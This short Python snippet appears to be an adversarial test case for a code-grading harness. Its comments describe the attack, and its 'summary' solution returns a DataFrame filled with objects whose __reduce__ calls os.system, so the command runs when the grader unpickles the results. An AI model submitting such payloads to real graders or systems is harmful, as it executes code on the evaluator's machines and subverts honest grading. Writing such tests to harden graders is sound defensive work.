# attack: cells that are objects with __reduce__
# on: empty
# harm: a grader that pickles results between processes runs the payload
# %% solution="summary"
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/owned",))


def group_summary(table):
    return pd.DataFrame({"n": [Payload()] * 4, "mean_confidence": Payload(), "mean_disc_lift": Payload()}, index=["TP", "TN", "FP", "FN"])
